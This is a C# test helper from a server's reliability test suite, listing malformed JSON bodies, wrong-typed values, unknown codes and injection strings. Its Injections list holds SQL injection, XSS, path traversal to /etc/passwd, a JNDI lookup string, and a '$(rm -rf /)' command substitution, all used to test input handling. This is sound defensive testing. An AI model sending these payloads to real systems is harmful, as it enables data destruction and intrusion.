using System.Text.Json.Nodes;

namespace Plenary.Server.Tests.Reliability;

/// <summary>What a hostile or careless client sends: bodies that are not JSON, values of the wrong type, unknown codes, and texts that attack whatever stores or shows them.</summary>
internal static class BadInput
{
    /// <summary>Not JSON, or not one JSON value (the empty body is left to the endpoints that need one).</summary>
    public static readonly IReadOnlyList<string> Malformed =
    [
        "{",
        "{\"state\": ",
        "{\"state\": \"UKR\",}",
        "{'state': 'UKR'}",
        "{\"state\": \"UKR\"}}",
        "{\"state\": \"UKR\" \"vote\": \"yes\"}",
        "not json",
        "[1, 2",
        "\"unterminated",
        "{\"state\": NaN}",
        "{\"a\": 1e999999}",
        "{\"state\": \"\\x41\"}",
        "{\"state\": \"\\uZZZZ\"}",
        "<?xml version=\"1.0\"?><state>UKR</state>",
        "{\"state\": \"UKR\"} trailing",
        "\u0000",
        new string('[', 10_000),
        "{\"x\":" + new string('[', 5_000) + new string(']', 5_000) + "}",
    ];

    /// <summary>Whole bodies of the wrong shape.</summary>
    public static readonly IReadOnlyList<string> WrongShapes = ["[]", "[{}]", "123", "\"text\"", "true", "{\"unknown\": 1}", "{\"state\": {\"state\": \"UKR\"}}"];

    /// <summary>Values that are the wrong JSON type for a field of <paramref name="type"/>.</summary>
    public static IEnumerable<JsonNode?> WrongTypes(Type type)
    {
        if (type == typeof(string))
        {
            return [12, true, new JsonObject(), new JsonArray("UKR"), 1.5];
        }

        if (type == typeof(int?) || type == typeof(int))
        {
            return ["7", 1.5, 99_999_999_999L, true, new JsonArray(1), -2147483649L];
        }

        if (type == typeof(bool?) || type == typeof(bool))
        {
            return ["yes", 1, new JsonObject()];
        }

        return ["UKR", new JsonArray(1, 2), new JsonArray(new JsonObject()), new JsonArray(new JsonArray("UKR")), 3];
    }

    /// <summary>Codes that look like codes but name nothing.</summary>
    public static readonly IReadOnlyList<string> UnknownCodes = ["XYZ", "ZZ", "ukr ", "U K R", "SUN", "UK", "GAA", "", " "];

    /// <summary>Texts aimed at SQL, HTML, paths, format strings and terminals, with control, right-to-left and zero-width characters, and very long ones.</summary>
    public static readonly IReadOnlyList<string> Injections =
    [
        "Robert'); DROP TABLE events;--",
        "' OR '1'='1",
        "\"; DELETE FROM events WHERE 1=1; --",
        "1; UPDATE events SET data = '{}'",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%s%s%s%n%x {0} {1:N} ${jndi:ldap://example.org/a}",
        "{{7*7}} $(rm -rf /) `id`",
        "nul\u0000byte",
        "line\r\nInjected-Header: yes",
        "\u001b[31mred\u001b[0m",
        "tab\there",
        "\u202Eevil.exe\u202C",
        "zero\u200Bwidth\u200Djoiner\uFEFF",
        "قرار الجمعية العامة",
        "החלטה של העצרת",
        "Résolution 𝕌𝕟𝕚𝕥𝕖𝕕 😀 Nations",
        "lone \uD800 surrogate",
        "null",
        new string('x', 501),
        new string('y', 5_000),
        new string('z', 60_000),
    ];

    /// <summary>The injections an HTTP client can put in a path (not a NUL, which the client refuses to send), short enough for a URL.</summary>
    public static IEnumerable<string> PathInjections => Injections.Where(t => t.Length < 1000 && !t.Contains('\0', StringComparison.Ordinal));

    /// <summary>Bytes that are not UTF-8: a lone continuation byte, an overlong encoding, a surrogate, and bytes UTF-8 never uses.</summary>
    public static readonly IReadOnlyList<byte[]> InvalidUtf8 =
    [
        [0xFF, 0xFE],
        [0xC3, 0x28],
        [0x80],
        [0xC0, 0xAF],
        [0xED, 0xA0, 0x80],
        [0xF8, 0x88, 0x80, 0x80, 0x80],
        [0x41, 0xE2, 0x82],
    ];
}
